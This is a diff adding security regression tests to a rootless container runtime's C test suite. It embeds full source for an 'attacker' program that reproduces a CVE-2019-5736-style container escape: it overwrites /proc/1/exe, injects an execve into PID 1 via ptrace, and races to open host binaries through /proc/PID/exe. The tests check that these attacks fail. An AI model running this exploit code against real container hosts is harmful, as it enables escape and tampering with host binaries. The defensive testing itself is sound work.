@@ -2908,6 +2908,320 @@ START_TEST(test_stdio_file_both_ways)
 }
 END_TEST
 
+/* ==== host_binaries: no host binary of the tool in the container's hands (#11 item 2) ====
+ *
+ * The attacker (source below) is a second static program: "pid1" rewrites the host file
+ * behind /proc/1/exe as runc's CVE-2019-5736 did (directly, and through an O_PATH fd of
+ * /proc/1/exe reopened for writing after PID 1 was made, by ptrace, to exec another image,
+ * which frees the file's text); "race STOP" opens /proc/PID/exe of each new process
+ * (O_PATH) as it appears, to catch a host binary (the front end forked into the
+ * container's PID namespace by `exec`) before it turns non-dumpable. */
+
+static const char *const attacker_source[] = {
+    "#define _GNU_SOURCE\n",
+    "#include <errno.h>\n",
+    "#include <fcntl.h>\n",
+    "#include <stdio.h>\n",
+    "#include <stdlib.h>\n",
+    "#include <string.h>\n",
+    "#include <sys/ptrace.h>\n",
+    "#include <sys/stat.h>\n",
+    "#include <sys/syscall.h>\n",
+    "#include <sys/user.h>\n",
+    "#include <sys/wait.h>\n",
+    "#include <time.h>\n",
+    "#include <unistd.h>\n",
+    "\n",
+    "static const char *en(int e)\n",
+    "{\n",
+    "\treturn e ? strerrorname_np(e) : \"ok\";\n",
+    "}\n",
+    "\n",
+    "/* Makes PID 1 exec /bin/sleep SECS: an execve injected where it is stopped (x86-64). */\n",
+    "static int force_exec(const char *secs)\n",
+    "{\n",
+    "\tstruct user_regs_struct regs;\n",
+    "\tunsigned long sp, str, words[16] = {0};\n",
+    "\tsize_t plen = sizeof(\"/bin/sleep\");\n",
+    "\tlong insn;\n",
+    "\tint status;\n",
+    "\n",
+    "\tif (ptrace(PTRACE_ATTACH, 1, 0, 0) < 0)\n",
+    "\t\treturn errno;\n",
+    "\tif (waitpid(1, &status, __WALL) < 0 || ptrace(PTRACE_GETREGS, 1, 0, &regs) < 0)\n",
+    "\t\treturn errno;\n",
+    "\terrno = 0;\n",
+    "\tinsn = ptrace(PTRACE_PEEKTEXT, 1, regs.rip - 2, 0);\n",
+    "\tif (errno || (insn & 0xffff) != 0x050f)\n",
+    "\t\treturn ENOEXEC; /* not stopped just after a syscall instruction */\n",
+    "\tsp = (regs.rsp - 4096) & ~15UL;\n",
+    "\tstr = sp + 64;\n",
+    "\twords[0] = str;\n",
+    "\twords[1] = str + plen;\n",
+    "\tmemcpy(&words[8], \"/bin/sleep\", plen);\n",
+    "\tmemcpy((char *)&words[8] + plen, secs, strlen(secs) + 1);\n",
+    "\tfor (int i = 0; i < 16; i++)\n",
+    "\t\tif (ptrace(PTRACE_POKEDATA, 1, sp + 8 * i, words[i]) < 0)\n",
+    "\t\t\treturn errno;\n",
+    "\tregs.orig_rax = -1;\n",
+    "\tregs.rax = SYS_execve;\n",
+    "\tregs.rdi = str;\n",
+    "\tregs.rsi = sp;\n",
+    "\tregs.rdx = 0;\n",
+    "\tregs.rip -= 2;\n",
+    "\tif (ptrace(PTRACE_SETREGS, 1, 0, &regs) < 0 || ptrace(PTRACE_DETACH, 1, 0, 0) < 0)\n",
+    "\t\treturn errno;\n",
+    "\treturn 0;\n",
+    "}\n",
+    "\n",
+    "/* CVE-2019-5736 against PID 1: /proc/1/exe written directly, then through an O_PATH fd\n",
+    " * of it reopened once PID 1 runs another image (which frees its text). */\n",
+    "static void pid1(void)\n",
+    "{\n",
+    "\tchar link[512] = \"\", self[64], c;\n",
+    "\tint opath, w, e = 0, r, rd;\n",
+    "\tstruct timespec pause = {0, 10 * 1000 * 1000};\n",
+    "\tssize_t n = readlink(\"/proc/1/exe\", link, sizeof(link) - 1);\n",
+    "\n",
+    "\tlink[n > 0 ? n : 0] = 0;\n",
+    "\tprintf(\"exe=%s\\n\", link);\n",
+    "\topath = open(\"/proc/1/exe\", O_PATH | O_CLOEXEC);\n",
+    "\tprintf(\"opath=%s\\n\", en(opath < 0 ? errno : 0));\n",
+    "\tw = open(\"/proc/1/exe\", O_WRONLY | O_CLOEXEC);\n",
+    "\tprintf(\"write-direct=%s\\n\", en(w < 0 ? errno : 0));\n",
+    "\tr = force_exec(\"3\");\n",
+    "\tprintf(\"force-exec=%s\\n\", en(r));\n",
+    "\tif (opath < 0)\n",
+    "\t\treturn;\n",
+    "\tsnprintf(self, sizeof(self), \"/proc/self/fd/%d\", opath);\n",
+    "\tfor (int i = 0; i < 200; i++) {\n",
+    "\t\tw = open(self, O_WRONLY | O_CLOEXEC);\n",
+    "\t\te = w < 0 ? errno : 0;\n",
+    "\t\tif (e != ETXTBSY)\n",
+    "\t\t\tbreak;\n",
+    "\t\tnanosleep(&pause, NULL);\n",
+    "\t}\n",
+    "\tprintf(\"write-reopen=%s\\n\", en(e));\n",
+    "\trd = open(self, O_RDONLY | O_CLOEXEC);\n",
+    "\t/* the same byte back: the content stays, the file's mtime would not */\n",
+    "\tif (w >= 0 && rd >= 0 && pread(rd, &c, 1, 0) == 1)\n",
+    "\t\tprintf(\"rewrite=%s\\n\", en(pwrite(w, &c, 1, 0) == 1 ? 0 : errno));\n",
+    "}\n",
+    "\n",
+    "/* Until stop exists (at most 60 s): /proc/PID/exe of the next pid opened (O_PATH) as soon\n",
+    " * as it exists; counts those that are host binaries (not on our root, not a memfd). */\n",
+    "static void race(const char *stop)\n",
+    "{\n",
+    "\tchar path[64], link[512], first[512] = \"\", buf[32];\n",
+    "\tstruct stat root, st;\n",
+    "\tlong tries = 0, got = 0, host = 0;\n",
+    "\ttime_t end = time(NULL) + 60;\n",
+    "\tint last = 0;\n",
+    "\n",
+    "\tstat(\"/\", &root);\n",
+    "\tprintf(\"ready\\n\");\n",
+    "\tfor (;;) {\n",
+    "\t\tint fd = open(\"/proc/sys/kernel/ns_last_pid\", O_RDONLY | O_CLOEXEC);\n",
+    "\t\tssize_t n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;\n",
+    "\n",
+    "\t\tif (fd >= 0)\n",
+    "\t\t\tclose(fd);\n",
+    "\t\tif (n > 0) {\n",
+    "\t\t\tbuf[n] = 0;\n",
+    "\t\t\tlast = atoi(buf);\n",
+    "\t\t}\n",
+    "\t\tif ((tries & 255) == 0 && (access(stop, F_OK) == 0 || time(NULL) > end))\n",
+    "\t\t\tbreak;\n",
+    "\t\tfor (int pid = last + 1; pid <= last + 2; pid++, tries++) {\n",
+    "\t\t\tsnprintf(path, sizeof(path), \"/proc/%d/exe\", pid);\n",
+    "\t\t\tfd = open(path, O_PATH | O_CLOEXEC);\n",
+    "\t\t\tif (fd < 0)\n",
+    "\t\t\t\tcontinue;\n",
+    "\t\t\tgot++;\n",
+    "\t\t\tsnprintf(path, sizeof(path), \"/proc/self/fd/%d\", fd);\n",
+    "\t\t\tn = readlink(path, link, sizeof(link) - 1);\n",
+    "\t\t\tlink[n > 0 ? n : 0] = 0;\n",
+    "\t\t\tif (fstat(fd, &st) == 0 && st.st_dev != root.st_dev &&\n",
+    "\t\t\t    strncmp(link, \"/memfd:\", 7)) {\n",
+    "\t\t\t\thost++;\n",
+    "\t\t\t\tif (!first[0])\n",
+    "\t\t\t\t\tsnprintf(first, sizeof(first), \"%s\", link);\n",
+    "\t\t\t}\n",
+    "\t\t\tclose(fd);\n",
+    "\t\t}\n",
+    "\t}\n",
+    "\tprintf(\"race: tries=%ld got=%ld host=%ld first=%s\\n\", tries, got, host, first);\n",
+    "}\n",
+    "\n",
+    "int main(int argc, char **argv)\n",
+    "{\n",
+    "\tsetvbuf(stdout, NULL, _IONBF, 0);\n",
+    "\tif (argc == 2 && !strcmp(argv[1], \"pid1\"))\n",
+    "\t\tpid1();\n",
+    "\telse if (argc == 3 && !strcmp(argv[1], \"race\"))\n",
+    "\t\trace(argv[2]);\n",
+    "\telse\n",
+    "\t\treturn 2;\n",
+    "\treturn 0;\n",
+    "}\n",
+    NULL};
+
+/* The attacker, compiled once per TCase into its temp dir, copied to the rootfs. */
+static void install_attacker(void)
+{
+	char *bin = h_strf("%s/attacker", h_case_dir()), *dst = in_rootfs("attacker");
+
+	if (!h_exists(bin)) {
+		char *src = h_strf("%s/attacker.c", h_case_dir());
+		char *tmp = h_strf("%s/attacker.tmp", h_case_dir());
+		struct h_result r;
+		FILE *f = fopen(src, "w");
+
+		ck_assert_msg(f, "create %s: %s", src, strerror(errno));
+		for (int i = 0; attacker_source[i]; i++)
+			fputs(attacker_source[i], f);
+		ck_assert_int_eq(fclose(f), 0);
+		h_run(&r, &(struct h_opts){.timeout_ms = 120000},
+		      (char *const[]){"cc", "-static", "-O1", "-o", tmp, src, NULL});
+		ck_assert_msg(r.status == 0, "cc -static could not build the attacker:\n%s", r.err);
+		ck_assert_int_eq(rename(tmp, bin), 0);
+		h_result_free(&r);
+		free(src), free(tmp);
+	}
+	h_copy_file(bin, dst, 0755);
+	free(bin), free(dst);
+}
+
+/* "PATH SIZE:HASH MTIME" of each host binary of the tool: the front end and the init,
+ * keeper and idmap helpers next to it (caller frees). */
+static char *host_binaries_digest(void)
+{
+	char *init = helper_path(), *dir = strdup(init), *all = strdup(""), *next;
+	const char *const names[] = {"conti-rootless-init", "conti-rootless-keeper",
+				     "conti-rootless-idmap"};
+
+	*strrchr(dir, '/') = '\0';
+	for (int i = -1; i < 3; i++) {
+		char *path = i < 0 ? strdup(h_conti_bin()) : h_strf("%s/%s", dir, names[i]);
+		char *sum = file_sum(path);
+		struct stat st;
+
+		ck_assert_msg(stat(path, &st) == 0, "stat %s: %s", path, strerror(errno));
+		next = h_strf("%s%s %s %lld.%09ld\n", all, path, sum, (long long)st.st_mtim.tv_sec,
+			      st.st_mtim.tv_nsec);
+		free(all), free(path), free(sum);
+		all = next;
+	}
+	free(init), free(dir);
+	return all;
+}
+
+static const char *const *const pid1_attack_opts[] = {
+    OPTS("--cap-add", "SYS_PTRACE"), OPTS("--cap-add", "ALL"), OPTS("--privileged")};
+
+/* With SYS_PTRACE (alone, with ALL, privileged) a container reaches PID 1's exe: it must
+ * be a sealed memfd copy of the init helper, which no write changes, never the host's file:
+ * every host binary of the tool is byte for byte, and in mtime, what it was, and the next
+ * container still starts. On main PID 1 exec'd the host file: write-reopen=ok, rewrite=ok
+ * and the helper's mtime changed. */
+START_TEST(test_binaries_pid1_exe_rewrite)
+{
+	const char *const *opts = pid1_attack_opts[_i];
+	const char *argv[16] = {"run", "--rm"};
+	char *before, *after, *exe;
+	struct h_result r;
+	int n = 2;
+
+	if (!on_path("cc")) {
+		h_skip("no cc to build the attacker");
+		return;
+	}
+#ifndef __x86_64__
+	h_skip("the attacker's ptrace injection is written for x86-64");
+	return;
+#endif
+	install_attacker();
+	before = host_binaries_digest();
+	for (; *opts; opts++)
+		argv[n++] = *opts;
+	argv[n++] = H.rootfs;
+	argv[n++] = "/attacker";
+	argv[n++] = "pid1";
+	argv[n] = NULL;
+	h_conti_v(&r, NULL, argv);
+	after = host_binaries_digest();
+	ck_assert_msg(!strcmp(before, after),
+		      "a host binary changed (%s):\nbefore:\n%safter:\n%sthe attacker said:\n%s",
+		      pid1_attack_opts[_i][0], before, after, r.out);
+	exe = strstr(r.out, "exe=");
+	ck_assert_msg(exe && !strncmp(exe, "exe=/memfd:conti-rootless-init", 30),
+		      "/proc/1/exe is not the sealed copy:\n%s", r.out);
+	ck_assert_msg(strstr(r.out, "force-exec=ok"), "PID 1 could not be made to exec:\n%s%s",
+		      r.out, r.err);
+	ck_assert_msg(!strstr(r.out, "rewrite=ok"), "the init helper's copy was written:\n%s",
+		      r.out);
+	h_result_free(&r);
+	CONTI(&r, "run", "--rm", H.rootfs, "true");
+	h_assert_status(&r, 0, "run true after the attack");
+	h_result_free(&r);
+	free(before), free(after);
+}
+END_TEST
+
+#define BINARY_RACE_EXECS 200
+
+/* With SYS_PTRACE, a process in the container catches (O_PATH) /proc/PID/exe of each new
+ * process while the caller runs `exec N true` BINARY_RACE_EXECS times: it must never get
+ * a host binary (on main it got the front end, conti-rootless, forked into the container's
+ * PID namespace before it turned non-dumpable: 35 of 200 here). */
+START_TEST(test_binaries_exec_race_opath)
+{
+	char *name = new_name(), *mark = new_mark(), *before, *after, first[512] = "";
+	char *argv[] = {(char *)h_conti_bin(), "exec", name, "/attacker", "race", "/tmp/stop",
+			NULL};
+	long tries = 0, got = 0, host = -1;
+	int failed_execs = 0;
+	struct h_result r;
+	struct h_proc p;
+	const char *line;
+
+	if (!on_path("cc")) {
+		h_skip("no cc to build the attacker");
+		return;
+	}
+	install_attacker();
+	before = host_binaries_digest();
+	h_run_detached(name, OPTS("--cap-add", "SYS_PTRACE"),
+		       (const char *const[]){"sleep", mark, NULL});
+	h_spawn(&p, argv, NULL);
+	ck_assert_msg(h_wait_output(&p, "ready\n", 10000), "the attacker did not start");
+	for (int i = 0; i < BINARY_RACE_EXECS; i++) {
+		CONTI(&r, "exec", name, "true");
+		failed_execs += r.status != 0;
+		h_result_free(&r);
+	}
+	CONTI(&r, "exec", name, "touch", "/tmp/stop");
+	h_assert_status(&r, 0, "exec touch /tmp/stop");
+	h_result_free(&r);
+	h_finish(&p, &r, 20000);
+	h_assert_status(&r, 0, "the attacker");
+	line = strstr(r.out, "race: ");
+	ck_assert_msg(line && sscanf(line, "race: tries=%ld got=%ld host=%ld first=%511s", &tries,
+				     &got, &host, first) >= 3,
+		      "the attacker printed: %s", r.out);
+	ck_assert_int_eq(failed_execs, 0);
+	ck_assert_msg(host == 0,
+		      "the container got hold of a host binary (%s) through /proc/PID/exe %ld "
+		      "times (%ld exes opened in %ld tries)",
+		      first, host, got, tries);
+	after = host_binaries_digest();
+	ck_assert_msg(!strcmp(before, after), "a host binary changed:\n%s--- now:\n%s", before,
+		      after);
+	h_result_free(&r);
+	free(name), free(mark), free(before), free(after);
+}
+END_TEST
+
 /* ---- the suite ---- */
 
 /* ---- runtime_symlink: the tool's own dirs replaced by symlinks ---- */
@@ -3109,6 +3423,9 @@ int main(void)
 	tcase_add_test(tc, test_stdio_file_stdin);
 	tcase_add_test(tc, test_stdio_pipe_passed);
 	tcase_add_test(tc, test_stdio_file_both_ways);
+	tc = tcase(s, "host_binaries");
+	tcase_add_loop_test(tc, test_binaries_pid1_exe_rewrite, 0, N(pid1_attack_opts));
+	tcase_add_test(tc, test_binaries_exec_race_opath);
 	sr = srunner_create(s);
 	srunner_run(sr, NULL, only && *only ? only : NULL, CK_NORMAL);
 	failed = srunner_ntests_failed(sr);
